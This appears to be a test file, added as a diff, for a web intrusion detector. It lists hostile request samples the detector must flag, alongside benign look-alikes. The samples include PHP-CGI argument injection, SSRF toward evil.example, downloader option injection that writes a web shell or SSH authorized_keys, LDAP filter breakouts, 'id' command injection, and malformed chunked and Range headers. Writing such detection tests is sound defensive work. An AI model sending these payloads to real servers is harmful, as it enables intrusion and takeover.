@@ -1,0 +1,121 @@
+"""Round 7 (after the third blind batches): debug endpoints and tool marks, framing and Range abuse, PHP-CGI arguments,
+downloader option injection, nested LDAP breaks, and GraphQL documents read as documents — each class with near-misses."""
+from __future__ import annotations
+
+import pytest
+
+from sensor.detect import verdict
+from sensor.detect.rawrequest import parse_raw
+from sensor.points import graphql
+from tests.detect.wild_benign import build_request
+
+
+def _rules(engine, carrier: str, value: str, key: str = "q") -> set[str]:
+    return {h.rule for h in engine.inspect(build_request(carrier, value, key)) if h.score >= 0.5}
+
+
+CAUGHT = [
+    # (carrier, key, value, rule)
+    ("path", "", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "scanner:debug_endpoint"),
+    ("path", "", "/lib/phpunit/src/Util/PHP/eval-stdin.php", "scanner:debug_endpoint"),
+    ("path", "", "/_ignition/execute-solution", "scanner:debug_endpoint"),
+    ("path", "", "/_profiler/phpinfo", "scanner:debug_endpoint"),
+    ("path", "", "/debug/pprof/heap?debug=1", "scanner:debug_endpoint"),
+    ("path", "", "/telescope/telescope-api/requests", "scanner:debug_endpoint"),
+    ("path", "", "/phpMyAdmin/setup/index.php", "scanner:debug_endpoint"),
+    ("path", "", "/cgi-bin/printenv", "scanner:debug_endpoint"),
+    ("path", "", "/backup.tar.gz", "scanner:backup_probe"),
+    ("path", "", "/wwwroot.rar", "scanner:backup_probe"),
+    ("path", "", "/db.sql", "scanner:backup_probe"),
+    ("cookie", "t", "acunetix_wvs_security_test", "scanner:tool_marker"),
+    ("query", "q", "w00tw00t.at.blackhats.romanian.anti-sec:)", "scanner:tool_marker"),
+    ("header:User-Agent", "", "Fuzz Faster U Fool v2.1.0", "scanner:user_agent"),
+    ("raw", "", "POST /api HTTP/1.1\r\nHost: a.example\r\nTransfer-Encoding: chunked\r\n\r\n00000000000000000000001\r\nA\r\n0\r\n\r\n",
+     "protocol:bad_chunk"),
+    ("raw", "", "POST /api HTTP/1.1\r\nHost: a.example\r\nTransfer-Encoding: chunked\r\n\r\n-1\r\nA\r\n0\r\n\r\n",
+     "protocol:bad_chunk"),
+    ("raw", "", "POST /api HTTP/1.1\r\nHost: a.example\r\nTransfer-Encoding: chunked\r\n\r\n1_0\r\nAAAAAAAAAAAAAAAA\r\n0\r\n\r\n",
+     "protocol:bad_chunk"),
+    ("raw", "", "GET /a.iso HTTP/1.1\r\nHost: a.example\r\nRange: bytes=18-18446744073709551615\r\n\r\n", "protocol:bad_range"),
+    ("raw", "", "GET / HTTP/1.1\r\nHost: a.example\r\nRange: bytes=" + ",".join(f"{i}-{i + 100}" for i in range(40)) + "\r\n\r\n",
+     "protocol:bad_range"),
+    ("raw", "", "GET /admin HTTP/1.1\r\nHost: a.example\r\nX-Real-IP: 127.0.0.1\r\nX-Rewrite-URL: /admin/console\r\n\r\n",
+     "protocol:url_override"),
+    ("path", "", "/index.php?-s", "php:cgi_argument"),
+    ("path", "", "/cgi-bin/php-cgi?-d+allow_url_include%3don+-d+auto_prepend_file%3dphp%3a//input", "php:cgi_argument"),
+    ("path", "", "/php-cgi/php-cgi.exe?%ADd+cgi.force_redirect%3d0", "php:cgi_argument"),
+    ("path", "", "/autodiscover/autodiscover.json?@evil.example/mapi/nspi/?&Email=autodiscover/autodiscover.json%3F@evil.example",
+     "ssrf:explicit_logon"),
+    ("query", "url", "http://example.com -o /var/www/html/x.php http://203.0.113.9/x.txt", "rce:argument_injection"),
+    ("query", "src", "https://cdn.example/a.txt --output /var/www/uploads/a.phtml", "rce:argument_injection"),
+    ("json", "feed", "ftp://files.example/k --output /root/.ssh/authorized_keys", "rce:argument_injection"),
+    ("form", "user", "admin*)((|userPassword=*)", "ldapi:filter_breakout"),
+    ("query", "cn", "x)((&(objectClass=*)", "ldapi:filter_breakout"),
+    ("json", "", '{"query":"{ a }\\n;id"}', "rce:chained_command"),
+    ("json", "", '{"query":"query { a }\\n`id`"}', "rce:command_substitution"),
+]
+CLEAN = [
+    ("path", "", "/downloads/www.zip"),
+    ("path", "", "/files/backup-2024.zip"),
+    ("path", "", "/dataset.zip"),
+    ("path", "", "/blog/telescope-reviews"),
+    ("path", "", "/docs/debug/pprof"),
+    ("path", "", "/cgi-bin/search.cgi"),
+    ("query", "q", "phpunit eval-stdin"),
+    ("query", "q", "acunetix review"),
+    ("raw", "", "POST /api HTTP/1.1\r\nHost: a.example\r\nTransfer-Encoding: chunked\r\n\r\n5\r\nhello\r\n1a;ext=1\r\n"
+                "abcdefghijklmnopqrstuvwxyz\r\n0\r\n\r\n"),
+    ("raw", "", "POST /api HTTP/1.1\r\nHost: a.example\r\nTransfer-Encoding: chunked\r\n\r\n0000A\r\n0123456789\r\n0\r\n\r\n"),
+    ("raw", "", "GET /v.mp4 HTTP/1.1\r\nHost: a.example\r\nRange: bytes=0-1023,2048-4095\r\n\r\n"),
+    ("raw", "", "GET /v.mp4 HTTP/1.1\r\nHost: a.example\r\nRange: bytes=1073741824-2147483647\r\n\r\n"),
+    ("raw", "", "GET /v.mp4 HTTP/1.1\r\nHost: a.example\r\nRange: bytes=-500\r\n\r\n"),
+    ("raw", "", "GET /admin HTTP/1.1\r\nHost: a.example\r\nX-Forwarded-For: 203.0.113.7\r\nX-Original-URL: /admin/users\r\n\r\n"),
+    ("path", "", "/search?-5"),
+    ("path", "", "/list?-created_at"),
+    ("path", "", "/sort?-date&page=2"),
+    ("path", "", "/autodiscover/autodiscover.json?Email=a@b.example&Protocol=ActiveSync"),
+    ("query", "url", "https://example.com/file.pdf -o report.pdf"),
+    ("query", "url", "https://example.com/docs -- see page 2"),
+    ("form", "comment", "smiley :)((( so sad"),
+    ("form", "comment", "call me (maybe) ((|"),
+    ("json", "", '{"query":"query GetProduct($handle: String!, $first: Int = 5) {\\n  product(handle: $handle) {\\n'
+                 '    id\\n    title\\n  }\\n}","variables":{"handle":"tee","first":3}}'),
+    ("json", "", '{"query":"mutation {\\n  login(user: \\"a\\", pass: \\"b\\") {\\n    token\\n    id\\n  }\\n}"}'),
+    ("query", "query", "{\n  viewer {\n    id\n    login\n  }\n}"),
+    ("json", "", '{"query":"query Q @live { a(x: 1.5e3) { ...F @include(if: true) } } fragment F on T {\\n b\\n id\\n}"}'),
+]
+
+
+@pytest.mark.parametrize("carrier,key,value,rule", CAUGHT, ids=lambda v: str(v)[:40])
+def test_caught(engine, carrier, key, value, rule):
+    assert rule in _rules(engine, carrier, value, key)
+
+
+@pytest.mark.parametrize("carrier,key,value", CLEAN, ids=lambda v: str(v)[:40])
+def test_clean(engine, carrier, key, value):
+    assert verdict(engine.inspect(build_request(carrier, value, key))) == "clean"
+
+
+def test_graphql_strings_are_still_judged(engine):
+    # the document's own lines are no commands, but what its arguments carry is judged as ever
+    hits = engine.inspect(build_request("json", '{"query":"{ user(name: \\"x;id\\") { id } }"}', ""))
+    assert any(h.rule == "rce:chained_command" and h.point[-3:] == ["graphql", "user", "name"] for h in hits)
+
+
+@pytest.mark.parametrize("text,is_doc", [
+    ("query { product { id\n title } }", True),
+    ('mutation { login(u: "a;b") { token } }', True),
+    ("{ a }\nid", False),          # a bare word between definitions is no GraphQL
+    ("query {\n$(id)\n}", False),  # `$(` is no variable
+    ("{ a }|id", False),
+    ("{ a }}", False),
+])
+def test_graphql_document_grammar(text, is_doc):
+    assert graphql.is_document(text) is is_doc
+
+
+def test_raw_reader_reports_bad_chunk_sizes():
+    req = parse_raw(b"POST / HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\nffffffffffffffff1\r\nA\r\n0\r\n\r\n")
+    assert req.anomalies == ["chunk_size"]
+    ok = parse_raw(b"POST / HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\n5\r\nhello\r\n0\r\n\r\n")
+    assert ok.anomalies == [] and ok.body == b"hello"
